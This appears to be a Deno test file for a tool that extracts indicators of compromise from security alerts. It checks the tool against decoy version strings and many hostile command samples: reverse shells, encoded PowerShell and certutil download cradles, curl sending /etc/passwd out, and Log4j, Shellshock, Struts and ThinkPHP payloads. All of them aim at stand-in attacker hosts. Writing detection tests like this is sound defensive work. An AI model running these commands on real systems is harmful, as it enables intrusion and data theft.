/**
 * What attackers and products write, and all that is asked for with the sweep as
 * it is by default: encodings, shells' and PowerShell's tricks, Log4j's lookups,
 * ways to write addresses, and what only looks like an IoC.
 *
 * @module
 */
import { assertEquals } from "@std/assert";
import { parseAlert } from "../../lib/alert/alert.ts";
import { makeFinder } from "../../lib/alert/find.ts";
import { FIND_DEFAULTS, valuesOf } from "../stand_ins/alerts.ts";

const find = makeFinder({ ...FIND_DEFAULTS, sweep: "safe" });

function utf16(text: string): string {
  const bytes = [...text].flatMap((letter) => [letter.charCodeAt(0), 0]);
  return new Uint8Array(bytes).toBase64();
}

function hex(text: string): string {
  return new TextEncoder().encode(text).toHex();
}

/** A web server's line, from 9.8.7.1. */
function access(request: string, referer = "-", agent = "x"): object {
  return {
    rule: { groups: ["web", "accesslog"] },
    decoder: { name: "web-accesslog" },
    data: { srcip: "9.8.7.1" },
    full_log: `9.8.7.1 - - [20/Nov/2025:10:15:30 +0000] ` +
      `"GET ${request} HTTP/1.1" 200 1 "${referer}" "${agent}"`,
  };
}

function script(scriptBlockText: string): object {
  return {
    rule: { groups: ["windows", "powershell"] },
    data: { win: { eventdata: { scriptBlockText } } },
  };
}

function command(commandLine: string): object {
  return {
    rule: { groups: ["sysmon_event1"] },
    data: {
      win: {
        system: { providerName: "Microsoft-Windows-Sysmon" },
        eventdata: { commandLine },
      },
    },
  };
}

function line(full_log: string): object {
  return { full_log };
}

/** Who asks, and what evil has. */
const [A, E, U, I] = [
  "ipv4 9.8.7.1",
  "domain evil.example",
  "url http://evil.example/a",
  "ipv4 185.244.31.158",
];

const INPUTS: readonly (readonly [string, object, readonly string[]])[] = [
  [
    "decoy versions",
    line(
      "app 10.0.19041.1 libfoo-1.2.3.4 foo_9.8.7.6_amd64.deb nginx/9.8.7.6 (build 9.8.7.7) v9.8.7.8-rc1",
    ),
    [],
  ],
  ["decoy firmware", line("firmware: 9.8.7.6, driver 9.8.7.5 rev 9.8.7.4"), []],
  [
    "decoy KB version sentence",
    line("Update to version 9.8.7.6 from 9.8.7.5 was installed"),
    [],
  ],
  [
    "oid",
    line("cert oid 1.3.6.1.5.5.7.3.1 and 2.5.29.37.0 policy 2.16.840.1"),
    [],
  ],
  [
    "container id",
    line(
      "container 3f4e9c0d1b2a3f4e9c0d1b2a3f4e9c0d1b2a3f4e9c0d1b2a3f4e9c0d1b2a3f4e started",
    ),
    [],
  ],
  [
    "file names",
    line("wrote /tmp/evil.sh config.json main.py report.zip evil.app"),
    [],
  ],
  [
    "ipv6-like time",
    line("duration 12:34:56:78 at 2024:11:20:10:15:30 mac 2a:00:14:50:40:0f"),
    [],
  ],
  ["mac as ipv6", line("dst 20:01:0d:b8:00:00 2001.0db8.0000"), []],
  [
    "guid",
    line(
      "{2a001450-400f-080d-0000-00000000200e} 44d88612-fea8-a8f3-6de8-2e1278abb02f",
    ),
    [],
  ],
  [
    "serial numbers",
    line(
      "S/N: 9.8.7.6, s/n 9.8.7.5, serial no. 9.8.7.4, serial# 9.8.7.3, P/N 9.8.7.2, model 9.8.7.1",
    ),
    [],
  ],
  [
    "firmware",
    line(
      "FW 9.8.7.6 F/W 9.8.7.5 HW 9.8.7.4 firmware rev. 9.8.7.3 (rel. 9.8.7.2) bld 9.8.7.1 build# 9.8.6.1 build no. 9.8.6.2",
    ),
    [],
  ],
  [
    "words of versions",
    line(
      "release 9.8.7.6, software 9.8.7.5, BIOS 9.8.7.4, engine 9.8.7.3 signature 9.8.7.2 hotfix 9.8.7.1",
    ),
    [],
  ],
  [
    "numbered",
    line(
      "section 9.8.7.6 control 9.8.7.5 requirement 9.8.7.4 clause 9.8.7.3 tel: 9.8.7.2 fax 9.8.7.1",
    ),
    [],
  ],
  ["fields of versions", {
    data: {
      license: "9.8.7.6",
      control: "9.8.7.5",
      rulever: "9.8.7.4",
      build_number: "9.8.7.3",
      fw_ver: "9.8.7.2",
      server: "9.8.7.1",
    },
  }, ["ipv4 9.8.7.1"]],
  [
    "from where it is",
    line(
      "from version server 9.8.7.6; package source 9.8.7.5; firmware server: 9.8.7.4; installed by script from 9.8.7.3; version: unknown 9.8.7.2; receiver 9.8.7.1",
    ),
    [
      "ipv4 9.8.7.6",
      "ipv4 9.8.7.5",
      "ipv4 9.8.7.4",
      "ipv4 9.8.7.3",
      "ipv4 9.8.7.2",
      "ipv4 9.8.7.1",
    ],
  ],
  [
    "upgrade",
    line(
      "agent upgraded from 9.8.7.6 to 9.8.7.5; downgraded to 9.8.7.4 from 9.8.7.3; tool installed (9.8.7.2)",
    ),
    [],
  ],
  ["a file's version", {
    data: {
      win: {
        eventdata: {
          data: "chrome.exe, 9.8.7.6, 65a, ntdll.dll, 9.8.7.5, 1a2b",
        },
      },
    },
  }, []],
  ["an installer's", {
    data: {
      win: {
        eventdata: { data: "Foo Agent, 9.8.7.6, 1033, 0, Foo Inc., (NULL)" },
      },
    },
  }, []],
  [
    "packages",
    line(
      "pip foo==9.8.7.6 bar>=9.8.7.5; npm i left@9.8.7.4; apt install nodejs=9.8.7.3",
    ),
    [],
  ],
  ["a filter", line("ip.src==185.244.31.158"), [I]],
  ["tags", command("docker run nginx:9.8.7.6 --add-host x:185.244.31.158"), [
    I,
  ]],
  ["tag in json", { data: { spec: "image: nginx:9.8.7.6" } }, []],
  [
    "a registry's version",
    command(
      "reg add HKLM\\\\x /v Version /d 9.8.7.6 /f; mvn -Drevision=9.8.7.5",
    ),
    [],
  ],
  [
    "a library's version",
    line("loaded clr.dll (9.8.7.6), by Chrome 9.8.7.5, openssl 1:9.8.7.4"),
    [],
  ],
  ["a URL's user", line("open ftp://u:p@evil.example/a"), [
    "url ftp://evil.example/a",
    E,
  ]],
  ["escaped lines", {
    data: { message: "from:\\n185.244.31.158\\nto:\\r\\n9.8.7.1\\tend" },
  }, [I, A]],
  ["a mask", line("route 9.8.7.0/255.255.255.0 via 185.244.31.158"), [I]],
  ["dots as words", line("hXXp://evil[dot]example/a"), [U, E]],
  [
    "lists of hashes",
    line(
      "MD5 (x.exe) = 44d88612fea8a8f36de82e1278abb02f\nSHA1(y)= " +
        "ab".repeat(20),
    ),
    ["md5 44d88612fea8a8f36de82e1278abb02f", "sha1 " + "ab".repeat(20)],
  ],
  ["verbose", command("nc -v 185.244.31.158 443"), [I]],
  ["a slash and a colon", command("mstsc /v:185.244.31.158"), [I]],
  ["any scheme", line("hydra ssh://185.244.31.158"), [I]],
  ["per cent", line("load 9.8.7.6% then /?ip=185.244.31.158%20x"), [I]],
  [
    "headers' versions",
    line(
      "CEF:0|Acme|FW|9.8.7.6|100|x|5|src=185.244.31.158 deviceExternalId=9.8.7.5 cs1Label=sw_version cs1=9.8.7.4",
    ),
    [I],
  ],
  ["LEEF's version", line("LEEF:2.0|Acme|FW|9.8.7.6|100|src=185.244.31.158"), [
    I,
  ]],
  [
    "ports behind dots",
    line(
      "rule 2/(match) block in on xl0: 185.244.31.158.6667 > 10.0.0.10.16290: P 7408",
    ),
    [I],
  ],
  [
    "ports behind dots, back",
    line("IP 10.0.0.10.22 > 185.244.31.158.6667: Flags [S]"),
    [I],
  ],
  ["v6 and a port", line("IP6 2a00:1450::5.443 > fe80::1.5: Flags [S]"), [
    "ipv6 2a00:1450::5",
  ]],
  [
    "v6 odd",
    line(
      "from 2A00:1450:0000:0:0:0:0:0005, 64:ff9b::b9f4:1f9e and ::ffff:b9f4:1f9f, 0:0:0:0:0:ffff:b9f4:1fa0",
    ),
    ["ipv6 2a00:1450::5", I, "ipv4 185.244.31.159", "ipv4 185.244.31.160"],
  ],
  ["v6 with v4", line("from 2a00:1450::185.244.31.158 port 1"), [
    "ipv6 2a00:1450::b9f4:1f9e",
  ]],
  ["v6 literal", command("dir \\\\2a00-1450--5.ipv6-literal.net\\c$"), [
    "ipv6 2a00:1450::5",
  ]],
  ["a name in srcip", {
    data: { srcip: "dial.evil.example", dstip: "eth0.100" },
  }, ["domain dial.evil.example"]],
  [
    "doas",
    line("doas: bob ran command curl evil.example/a as root from /home/bob"),
    [E, U],
  ],
  [
    "page of a scanner",
    access("/", "-", "CensysInspect/1.1; (https://about.censys.io/)"),
    [A],
  ],
  ["rfi behind HTTP", access("/", "http://evil.example/a"), [A, U, E]],
  ["serial", line("serial=9.8.7.6 sn: 9.8.7.5"), []],
  ["percent url", access("/x?u=http%3A%2F%2Fevil.example%2Fa"), [A, U, E]],
  ["double percent", access("/x?u=http%253A%252F%252Fevil.example%252Fa"), [
    A,
    U,
    E,
  ]],
  ["wget pct", access("/cgi?x=`wget%20http://evil.example/a%20-O-|sh`"), [
    A,
    U,
    E,
    `${U}%20-O-`,
  ]],
  [
    "hex in shell",
    command("echo " + hex("curl http://evil.example/a") + " | xxd -r -p | sh"),
    [U, E],
  ],
  [
    "b64 python",
    command(
      `python3 -c "import base64;exec(base64.b64decode('${
        btoa("import os;os.system('curl http://evil.example/a')")
      }'))"`,
    ),
    [U, E],
  ],
  [
    "b64 herestring",
    command(
      `bash -c "{echo,${
        btoa("bash -i >& /dev/tcp/185.244.31.158/4444 0>&1")
      }}|{base64,-d}|{bash,-i}"`,
    ),
    [I],
  ],
  [
    "enc ps",
    command(
      `powershell.exe -NoP -W Hidden -EncodedCommand ${
        utf16(
          "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')",
        )
      }`,
    ),
    [U, E],
  ],
  [
    "enc ps caret",
    command(
      `cmd /c p^o^w^e^r^s^h^e^l^l -e ${utf16("iwr http://evil.example/a")}`,
    ),
    [U, E],
  ],
  ["ps concat", script(`$u='ht'+'tp://evil'+'.example/a';iwr $u`), [U, E]],
  ["ps format", script(`("{0}{1}" -f 'http://evil','.example/a')|iex`), [U, E]],
  [
    "ps replace",
    script(`'hxxp://evil[.]example/a'.Replace('xx','tt').Replace('[.]','.')`),
    [U, E],
  ],
  ["ps tick", script("I`w`r http://evil.example/a"), [U, E]],
  [
    "ps char reverse ip",
    script(`(New-Object Net.Sockets.TCPClient("185.244.31.158",443))`),
    [I],
  ],
  ["ps resolve", script(`Resolve-DnsName -Name evil.example -Type TXT`), [E]],
  [
    "certutil split",
    command(
      `certutil.exe -urlcache -split -f "http://evil.example/a" C:\\x.exe`,
    ),
    [U, E],
  ],
  [
    "mshta",
    command(
      `mshta vbscript:Close(Execute("GetObject(""script:http://evil.example/a"")"))`,
    ),
    [U, E],
  ],
  [
    "regsvr32",
    command(`regsvr32 /s /n /u /i:http://evil.example/a scrobj.dll`),
    [U, E],
  ],
  ["msiexec", command(`msiexec /q /i http://evil.example/a`), [U, E]],
  [
    "rundll webdav",
    command(`rundll32 \\\\evil.example@SSL\\DavWWWRoot\\x.dll,Go`),
    [E],
  ],
  ["net use ip", command(`net use Z: \\\\185.244.31.158\\share`), [I]],
  [
    "curl with data",
    command(`curl -sk -X POST -d @/etc/passwd https://evil.example/a`),
    ["url https://evil.example/a", E],
  ],
  [
    "curl resolve",
    command(`curl --resolve a.example:443:185.244.31.158 https://a.example/`),
    ["url https://a.example/", "domain a.example", I],
  ],
  ["shell quoting", command(`sh -c 'curl "http://evil.example/a";id'`), [U, E]],
  ["shell concat", command(`cu""rl ht''tp://evil.example/a`), [U, E]],
  ["dollar at", command(`w$@get http://evil.example/a`), [U, E]],
  ["backslash", command(`c\\url http://evil.example/a`), [U, E]],
  ["ip decimal host", command(`curl http://3119783838/a`), [
    "url http://185.244.31.158/a",
    "ipv4 185.244.31.158",
  ]],
  ["ip hex host", command(`wget http://0xb9.0xf4.0x1f.0x9e/a`), [
    "url http://185.244.31.158/a",
    "ipv4 185.244.31.158",
  ]],
  [
    "jndi nested",
    access(
      "/",
      "-",
      "${${env:X:-j}ndi${env:Y:-:}${lower:l}dap${X:-:}//evil.example/a}",
    ),
    [A, E],
  ],
  ["jndi upper", access("/?x=$%7Bjndi:ldap://185.244.31.158:1389/a%7D"), [
    A,
    I,
  ]],
  [
    "jndi rmi b64",
    access(
      "/",
      "-",
      "${jndi:ldap://185.244.31.158:1389/Basic/Command/Base64/" +
        btoa("wget http://evil.example/a") + "}",
    ),
    [A, I, U, E],
  ],
  [
    "jndi dns hostname prefix",
    access("/", "-", "${jndi:dns://${hostName}.evil.example}"),
    [A, E],
  ],
  ["shellshock cookie", {
    ...access("/"),
    data: {
      srcip: "9.8.7.1",
      headers: { Cookie: "() { :; }; /usr/bin/wget http://evil.example/a" },
    },
  }, [A, U, E]],
  [
    "shellshock ref",
    access("/cgi-bin/x", "() { _; } >_[$($())] { curl evil.example/a; }"),
    [A, E, U],
  ],
  [
    "struts ognl",
    access(
      "/x.action",
      "-",
      "%{(#cmd='curl http://evil.example/a').(#p=new java.lang.ProcessBuilder(#cmds))}",
    ),
    [A, U, E],
  ],
  ["php rfi", access("/i.php?page=//evil.example/a"), [A]],
  [
    "thinkphp",
    access(
      "/index.php?s=/think/app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget+http://evil.example/a+-O+/tmp/x;sh+/tmp/x",
    ),
    [A, U, E, `${U}+-O+/tmp/x`, `${U}+-O+/tmp/x;sh+/tmp/x`],
  ],
  ["nat64", { data: { srcip: "64:ff9b::b9f4:1f9e" } }, [I]],
  ["mapped hex", { data: { srcip: "::ffff:b9f4:1f9e" } }, [I]],
  ["6to4", { data: { srcip: "2002:b9f4:1f9e::1" } }, [
    "ipv6 2002:b9f4:1f9e::1",
    I,
  ]],
  ["ptr v4", {
    rule: { groups: ["ids"] },
    data: { dns: { rrname: "158.31.244.185.in-addr.arpa" } },
  }, [I]],
  ["ptr v6", {
    rule: { groups: ["ids"] },
    data: {
      dns: {
        rrname:
          "5.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.5.4.1.0.0.a.2.ip6.arpa",
      },
    },
  }, ["ipv6 2a00:1450::5"]],
  ["private names", {
    rule: { groups: ["ids"] },
    data: {
      dns: { rrname: "dc01.corp.local" },
      tls: { sni: "nas.home.arpa" },
      http: { hostname: "wpad.lan" },
    },
  }, []],
  ["cut off", {
    rule: { groups: ["x"] },
    data: { srcip: "185.244.31.1" },
    full_log: "deny from 185.244.31.158",
  }, [I]],
  ["list", { data: { srcip: "185.244.31.158, 10.0.0.1" } }, [I]],
  ["v6 zone", { data: { srcip: "2a00:1450::5%eth0" } }, ["ipv6 2a00:1450::5"]],
  ["v6 port brackets", line("conn from [2a00:1450::5]:4444"), [
    "ipv6 2a00:1450::5",
  ]],
  ["v6 dot port", line("client 2a00:1450::5#53"), ["ipv6 2a00:1450::5"]],
  ["defanged", line("IOC hxxp://evil[.]example/a and 185[.]244[.]31[.]158"), [
    U,
    E,
    I,
  ]],
  [
    "forwarded hdr",
    line(
      'x-forwarded-for: 185.244.31.158, 10.0.0.1 forwarded: for="[2a00:1450::5]:80";proto=https',
    ),
    [I, "ipv6 2a00:1450::5"],
  ],
  ["email", line("From: Evil <a@evil.example> Message-ID: <x@mail.example>"), [
    "email a@evil.example",
  ]],
  ["html href", line('<a href="http://evil.example/a">x</a>'), [U, E]],
  ["json url esc", line('{"u":"http:\\/\\/evil.example\\/a"}'), [U, E]],
  ["xml amp", line("<Event>curl http://evil.example/a?x=1&amp;y=2</Event>"), [
    "url http://evil.example/a?x=1&y=2",
    E,
  ]],
  ["git clone", command("git clone git@evil.example:x/y.git"), [E]],
  ["ssh tunnel", command("ssh -N -R 4444:localhost:22 root@185.244.31.158"), [
    I,
  ]],
  ["ssh jump", command("ssh -J jump@evil.example user@10.0.0.5"), [E]],
  ["nc -e", command("nc -e /bin/sh evil.example 4444"), [E]],
  [
    "python socket",
    command(
      `python -c 'import socket;s=socket.socket();s.connect(("185.244.31.158",4444))'`,
    ),
    [I],
  ],
  [
    "perl socket",
    command(`perl -e 'use Socket;$i="185.244.31.158";$p=4444;'`),
    [I],
  ],
  ["php fsockopen", command(`php -r '$s=fsockopen("evil.example",4444);'`), [
    E,
  ]],
  ["ruby", command(`ruby -rsocket -e 'TCPSocket.open("evil.example",4444)'`), [
    E,
  ]],
  ["pip", command("pip install --index-url http://evil.example/a foo"), [U, E]],
  [
    "apt decoy",
    command("apt-get install python3.10 libssl1.1=1.1.1.1 nginx"),
    [],
  ],
  [
    "java decoy",
    command("java -cp app.jar com.example.Main --spring.config.name=prod"),
    [],
  ],
  ["systemctl decoy", command("systemctl restart ssh.service foo.timer"), []],
  ["resolver dig", command("dig @8.8.8.8 evil.example"), [E]],
  [
    "user agent",
    access(
      "/",
      "-",
      "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    ),
    [A],
  ],
  ["rule text", {
    data: {
      alert: {
        signature: "ET x",
        rule: "alert tcp any any (msg:x; reference:url,http://blog.example/x;)",
      },
      src_ip: "185.244.31.158",
    },
  }, [I]],
  ["help url", {
    data: {
      help_url: "http://docs.vendor.example/x",
      moreInfo: "http://y.example",
      doc: "http://z.example/1",
      peer: "185.244.31.158",
    },
  }, [I]],
  [
    "cef vendor",
    line(
      "CEF:0|Trend Micro|Deep Security|20|1|x|3|src=185.244.31.158 request=https://app.deepsecurity.trendmicro.com/x cs1=https://evil.example/a",
    ),
    [I, "url https://evil.example/a", E],
  ],
  [
    "cef other vendor",
    line(
      "CEF:0|Forcepoint|DLP|8|1|x|3|src=185.244.31.158 cs1Label=link cs1=https://dlp.own.com/incident/5",
    ),
    [I],
  ],
  ["vendor json", {
    data: {
      vendor: "Acmesec",
      url_console: "x",
      report: "https://console.acmesec.com/a",
      remote: "185.244.31.158",
    },
  }, [I]],
];

Deno.test("what attackers and products write gives what it holds, and no more", async (t) => {
  for (const [name, alert, expected] of INPUTS) {
    await t.step(name, () => {
      const found = find(parseAlert(JSON.stringify(alert)));
      assertEquals(valuesOf(found).sort(), [...new Set(expected)].sort());
    });
  }
});
